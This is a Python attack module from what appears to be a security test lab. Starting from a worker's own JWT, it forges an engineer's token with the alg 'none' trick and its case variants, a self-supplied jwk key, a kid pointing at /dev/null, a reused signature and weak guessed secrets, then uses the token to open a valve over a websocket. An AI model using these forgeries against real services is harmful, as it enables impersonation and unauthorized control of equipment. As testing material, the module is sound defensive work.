"""A worker has a token of its own, and writes others: for the engineer, unsigned or signed with anything."""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from typing import Any

from lab.harness import Outcome, Refused, Target

BY_HAND = False
WHY = (
    "PyJWT with one algorithm, a random key and all claims required is what its documentation says, "
    "and it is enough. What is left open (tokens cannot be taken back) is another threat."
)
TRAIL = frozenset({"authn_login_fail"})

GUESSES = ("secret", "changeme", "password", "your-256-bit-secret", "")
OWN = b"a key that the attacker has made"


def encode(part: bytes) -> str:
    """A part of a token."""
    return base64.urlsafe_b64encode(part).rstrip(b"=").decode()


def decode(part: str) -> dict[str, Any]:
    """The JSON in a part of a token."""
    found: dict[str, Any] = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    return found


def forge(header: dict[str, Any], claims: dict[str, Any], key: bytes | None) -> str:
    """A token with that signature, or none."""
    signed = ".".join(encode(json.dumps(one).encode()) for one in (header, claims))
    signature = b"" if key is None else hmac.digest(key, signed.encode(), hashlib.sha256)
    return f"{signed}.{encode(signature)}"


def forgeries(token: str) -> dict[str, str]:
    """Return the forgeries of an own token that need no key of the server."""
    header, claims = (decode(part) for part in token.split(".")[:2])
    claims |= {"sub": "ada", "role": "engineer", "roles": ["engineer"], "exp": time.time() + 600}
    claims.pop("sid", None)
    own_key = {"kty": "oct", "k": encode(OWN)}
    make: dict[str, Callable[[], str]] = {
        "alg: none": lambda: forge({**header, "alg": "none"}, claims, None),
        "alg: none and an unknown key": lambda: forge(
            {**header, "alg": "none", "kid": "x"}, claims, None
        ),
        "alg: NoNe": lambda: forge({**header, "alg": "NoNe"}, claims, None),
        "the key in its header": lambda: forge({**header, "jwk": own_key}, claims, OWN),
        "a key in an empty file": lambda: forge({**header, "kid": "/dev/null"}, claims, b""),
        "the old signature": lambda: forge(header, claims, None) + token.rpartition(".")[2],
    }
    tokens = {how: one() for how, one in make.items()}
    plain = {name: value for name, value in header.items() if name != "kid"}
    for guess in GUESSES:
        tokens[f"the key {guess!r}"] = forge(plain, claims, guess.encode())
    return tokens


async def own_token(target: Target, name: str) -> str:
    """The token of who logs in."""
    session = await target.login(name)
    answer = await target.request("POST", "/auth/token", session=session)
    if answer.status_code == 404:  # here the login itself answers with one
        body = {"username": name, "password": target.users[name]}
        answer = await target.request("POST", "/auth/login", body=body, who=name)
    return str(answer.json()["access_token"])


async def open_valve(target: Target, token: str, who: str) -> tuple[str, bool]:
    """Return the user of that token, and whether the valve opens. The user is "" if it is refused."""
    try:
        async with target.connect(
            "/ws/dashboard", headers=[("Authorization", f"Bearer {token}")], who=who
        ) as socket:
            hello = await socket.receive()
            answer = await socket.ask({"type": "open-valve", "valve": "v7"})
    except Refused:
        return "", False
    return hello["user"], answer["type"] == "opened"


async def legitimate(target: Target) -> None:
    """The engineer opens a valve; the worker looks on."""
    assert await open_valve(target, await own_token(target, "ada"), "ada") == ("ada", True)
    assert await open_valve(target, await own_token(target, "alice"), "alice") == ("alice", False)


async def attack(target: Target) -> Outcome:
    """Try one forgery after the other."""
    worked = []
    for how, token in forgeries(await own_token(target, "alice")).items():
        target.note(f"a token for ada with {how}")
        user, opened = await open_valve(target, token, "alice")
        if user == "ada" or opened:
            worked.append(how)
    if worked:
        return target.outcome(True, f"opens a valve as ada, with {', '.join(worked)}")
    return target.outcome(False, "no forged token counts")
